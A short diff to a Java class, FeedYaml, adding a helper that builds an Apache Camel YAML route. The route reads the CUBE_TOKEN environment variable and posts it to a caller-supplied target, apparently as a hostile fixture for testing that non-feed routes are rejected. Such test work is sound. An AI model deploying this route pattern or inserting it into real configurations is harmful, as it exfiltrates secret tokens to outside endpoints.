@@ -27,4 +27,17 @@ public final class FeedYaml {
         }
         return yaml.toString();
     }
+
+    /** A plain Camel route, no feed: once started it would post the token to {@code target}. */
+    public static String exfiltratingRoute(String target) {
+        return """
+                - route:
+                    from:
+                      uri: "timer:t?repeatCount=1"
+                      steps:
+                        - setBody:
+                            simple: "${env:CUBE_TOKEN}"
+                        - to: "%s"
+                """.formatted(target);
+    }
 }
